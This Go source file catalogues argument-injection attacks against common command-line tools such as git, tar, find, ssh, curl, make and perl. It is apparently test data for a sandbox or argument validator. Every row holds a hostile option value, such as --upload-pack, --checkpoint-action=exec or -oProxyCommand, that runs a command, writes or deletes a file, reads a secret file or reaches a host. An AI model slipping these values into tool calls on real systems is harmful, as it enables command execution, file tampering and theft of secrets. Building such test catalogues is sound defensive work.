package argattack

// Catalogue returns the attacks, one row each.
func Catalogue() []Attack {
	return []Attack{
		// A command is run.
		{"git ls-remote --upload-pack", "git", "git", Exec, s("ls-remote"), s("--upload-pack={PWNCMD};false"), s("{W}")},
		{"git ls-remote --upload-pac, abbreviated", "git", "git", Exec, s("ls-remote"), s("--upload-pac={PWNCMD};false"), s("{W}")},
		{"git clone -u, joined", "git", "git", Exec, s("clone", "-q"), s("-u{PWNCMD};false"), s("{W}", "{W}/out")},
		{"git clone --template", "git", "git", Exec, s("clone", "-q"), s("--template={W}/tmpl"), s("{W}", "{W}/out")},
		{"git clone -c core.hooksPath", "git", "git", Exec, s("clone", "-q"), s("-ccore.hooksPath={W}/hooks"), s("{W}", "{W}/out")},
		{"git archive --exec", "git", "git", Exec, s("archive", "--remote={W}"), s("--exec={PWNCMD};false"), s("HEAD")},
		{"git grep -O", "git", "git", Exec, s("grep"), s("-O{PWNCMD}"), s("content")},
		{"git grep --open-files-in-pager", "git", "git", Exec, s("grep"), s("--open-files-in-pager={PWNCMD}"), s("content")},
		{"git -c alias", "git", "git", Exec, nil, s("-c", "alias.x=!{PWNCMD}", "x"), nil},
		{"git -c core.fsmonitor", "git", "git", Exec, nil, s("-c", "core.fsmonitor={PWNCMD}"), s("status")},
		{"git -c core.sshCommand", "git", "git", Exec, nil, s("-c", "core.sshCommand={PWNCMD};false"), s("ls-remote", "ssh://127.0.0.1/x")},
		{"git -c protocol.ext.allow, ext::", "git", "git", Exec, nil, s("-c", "protocol.ext.allow=always", "ls-remote", "ext::{PWNCMD}"), nil},
		{"tar --checkpoint-action", "tar", "tar", Exec, s("-cf", "/dev/null"), s("--checkpoint=1", "--checkpoint-action=exec={PWNCMD}"), s("f")},
		{"tar --checkpoint-act, abbreviated", "tar", "tar", Exec, s("-cf", "/dev/null"), s("--checkpoint=1", "--checkpoint-act=exec={PWNCMD}"), s("f")},
		{"tar -I", "tar", "tar", Exec, s("-cf", "out.tar"), s("-I{PWNCMD}"), s("f")},
		{"tar --use-compress-program", "tar", "tar", Exec, s("-tf", "a.tar"), s("--use-compress-program={PWNCMD}"), nil},
		{"tar --to-command", "tar", "tar", Exec, s("-xf", "a.tar"), s("--to-command={PWNCMD}"), nil},
		{"find -exec", "find", "findutils", Exec, nil, s("f", "-exec", "{PWNCMD}", ";"), nil},
		{"find -exec, through the loader", "find", "findutils", Exec, nil, s("f", "-exec", "{LOADER}", "/usr/bin/touch", "{PWN}", ";"), nil},
		{"ssh -oProxyCommand", "ssh", "openssh-client", Exec, s("-oBatchMode=yes"), s("-oProxyCommand={PWNCMD}"), s("host.invalid", "true")},
		{"ssh -F, Match exec", "ssh", "openssh-client", Exec, s("-oBatchMode=yes"), s("-F{W}/ssh.cfg"), s("127.0.0.1", "true")},
		{"scp -S", "scp", "openssh-client", Exec, s("-q"), s("-S", "{PWNCMD}"), s("f", "host.invalid:f")},
		{"rsync -e", "rsync", "rsync", Exec, nil, s("-e{PWNCMD}"), s("host.invalid:f", "g")},
		{"zip -T -TT", "zip", "zip", Exec, s("-q", "{W}/out.zip"), s("-T", "-TT", "{PWNCMD}; :"), s("f")},
		{"sort --compress-program", "sort", "coreutils", Exec, s("-S1k", "-T{W}"), s("--compress-program={PWNCMD}"), s("big")},
		{"awk program text", "awk", "gawk", Exec, nil, s(`BEGIN{system("{PWNCMD}")}`), nil},
		{"sed e", "sed", "sed", Exec, nil, s("1e {PWNCMD}"), s("f")},
		{"env -S", "env", "coreutils", Exec, nil, s("-S{PWNCMD}"), nil},
		{"wget --use-askpass", "wget", "wget", Exec, s("-q", "-t1"), s("--use-askpass={PWNCMD}"), s("http://127.0.0.1:9/")},
		{"make --eval", "make", "make", Exec, s("-f", "/dev/null"), s("--eval=$(shell {PWNCMD})"), s("all")},
		{"make -f", "make", "make", Exec, nil, s("-f{W}/mk"), nil},
		{"gcc -wrapper", "gcc", "gcc", Exec, s("-c", "src.c", "-o", "/dev/null"), s("-wrapper", "{PWNCMD}"), nil},
		{"gs -sOutputFile, a pipe", "gs", "ghostscript", Exec, s("-q", "-sDEVICE=ppmraw", "-dBATCH", "-dNOPAUSE"), s("-sOutputFile=%pipe%{PWNCMD}"), s("-c", "showpage")},
		{"python -c", "python3", "python3", Exec, nil, s("-cimport os;os.system('{PWNCMD}')"), nil},
		{"perl -e", "perl", "perl", Exec, nil, s("-esystem('{PWNCMD}')"), nil},
		{"busybox sh", "busybox", "busybox", Exec, nil, s("sh", "-c", "{PWNCMD}"), nil},

		// A file is written.
		{"git log --output", "git", "git", Write, s("log"), s("--output={PWN}"), nil},
		{"git diff --output", "git", "git", Write, s("diff"), s("--output={PWN}"), nil},
		{"git archive -o", "git", "git", Write, s("archive"), s("-o{PWN}"), s("HEAD")},
		{"curl -o", "curl", "curl", Write, s("-s"), s("-o{PWN}"), s("file://{W}/f")},
		{"curl -sfo, joined", "curl", "curl", Write, nil, s("-sfo{PWN}"), s("file://{W}/f")},
		{"curl -K", "curl", "curl", Write, s("-s"), s("-K{W}/curl.cfg"), nil},
		{"sort -o", "sort", "coreutils", Write, nil, s("-o{PWN}"), s("f")},
		{"wget -O", "wget", "wget", Write, s("-q", "-t1"), s("-O{PWN}"), s("http://127.0.0.1:9/")},
		{"find -fprintf", "find", "findutils", Write, nil, s("f", "-fprintf", "{PWN}", "x"), nil},
		{"find -fls", "find", "findutils", Write, nil, s("f", "-fls", "{PWN}"), nil},
		{"openssl -out", "openssl", "openssl", Write, s("rand"), s("-out", "{PWN}"), s("8")},
		{"tar -f", "tar", "tar", Write, s("-c"), s("-f{PWN}"), s("f")},
		{"ffmpeg -vf metadata", "ffmpeg", "ffmpeg", Write, s("-nostdin", "-loglevel", "quiet", "-f", "lavfi", "-i", "testsrc=duration=0.1:size=16x16"), s("-vf", "metadata=print:file={PWN}"), s("-f", "null", "-")},
		{"gs -o", "gs", "ghostscript", Write, s("-q", "-sDEVICE=ppmraw", "-dBATCH", "-dNOPAUSE"), s("-o{PWN}"), s("-c", "showpage")},
		{"perl -e open", "perl", "perl", Write, nil, s("-eopen(F,'>','{PWN}');print F 1"), nil},

		// A file is deleted.
		{"find -delete", "find", "findutils", Delete, nil, s("victim", "-delete"), nil},
		{"perl -e unlink", "perl", "perl", Delete, nil, s("-eunlink('victim')"), nil},

		// A file outside is read. Most of these need no dash.
		{"curl file:", "curl", "curl", Read, s("-s"), s("file://{SECRET}"), nil},
		{"date -f", "date", "coreutils", Read, nil, s("-f{SECRET}"), nil},
		{"file -f", "file", "file", Read, nil, s("-f{SECRET}"), nil},
		{"wc --files0-from", "wc", "coreutils", Read, nil, s("--files0-from={SECRET}"), nil},
		{"tar -T", "tar", "tar", Read, s("-cf", "/dev/null"), s("-T{SECRET}"), nil},
		{"git diff --no-index", "git", "git", Read, s("diff"), s("--no-index", "/dev/null", "{SECRET}"), nil},
		{"gcc @file", "gcc", "gcc", Read, s("-c"), s("@{SECRET}"), nil},
		{"cat ../", "cat", "coreutils", Read, nil, s("../secret"), nil},
		{"cat absolute", "cat", "coreutils", Read, nil, s("{SECRET}"), nil},
		{"diff absolute", "diff", "diffutils", Read, nil, s("/dev/null", "{SECRET}"), nil},
		{"sed -n p", "sed", "sed", Read, s("-n", "p"), s("{SECRET}"), nil},
		{"openssl enc -in", "openssl", "openssl", Read, s("enc", "-none"), s("-in", "{SECRET}"), nil},

		// A host is asked for, by ssh. None of these needs a dash.
		{"rsync host:path", "rsync", "rsync", Egress, nil, s("host.invalid:f"), s("g")},
		{"scp host:path", "scp", "openssh-client", Egress, nil, s("host.invalid:f"), s("g")},
		{"git ls-remote host:path", "git", "git", Egress, s("ls-remote"), s("host.invalid:f"), nil},
		{"git ls-remote ssh:", "git", "git", Egress, s("ls-remote"), s("ssh://host.invalid/f"), nil},
	}
}

func s(args ...string) []string { return args }
